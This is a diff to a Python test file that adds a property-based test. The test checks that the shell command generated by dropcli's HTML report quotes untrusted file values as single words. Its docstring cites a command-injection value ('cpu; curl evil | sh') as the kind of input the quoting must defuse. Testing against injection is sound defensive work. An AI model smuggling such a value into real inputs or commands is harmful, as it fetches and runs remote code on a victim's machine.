@@ -7,6 +7,8 @@ import re
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from synthetic_study import write_study
 
 from dropcli.conclusions import sentences
@@ -68,3 +70,28 @@ def test_committed_reports_and_readmes_quote_what_report_writes(study):
     quoted = [line[2:] for line in readme.splitlines() if line.startswith("> Metric: ")]
     numbered = [re.sub(r"^> \d+\. ", "", line) for line in readme.splitlines() if re.match(r"^> \d+\. ", line)]
     assert quoted == said[:1] and numbered == said[1:]
+
+
+_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=30)
+
+
+@settings(max_examples=60, deadline=None)
+@given(device=_TEXT, out=_TEXT, data_dir=_TEXT)
+def test_the_equivalent_command_is_one_token_per_value_whatever_the_files_say(device, out, data_dir):
+    """A received runs.csv's device (a text cell), a study.json's data_dir and the folder's name
+    reach the page's command as single shell words: pasted into bash, none of them can run
+    anything ('cpu; curl evil | sh' stays the --device value)."""
+    import shlex
+
+    import pandas as pd
+
+    from dropcli.report_html import equivalent_command
+
+    identity = {"grid": {"keep_probs": ["0.5", "1"], "input_keep_probs": [1.0], "max_norms": ["none"],
+                         "train_sizes": [500], "seeds": [777, 778]},
+                "settings": {"data_dir": data_dir, "epochs": 1}}
+    runs = pd.DataFrame({"group_size": [1, 1], "device": [device, device]})
+    words = shlex.split(equivalent_command(identity, runs, Path(out)))
+    assert words[words.index("--device") + 1] == device
+    assert words[words.index("--data-dir") + 1] == data_dir
+    assert words[-2:] == ["--out", str(Path(out))]
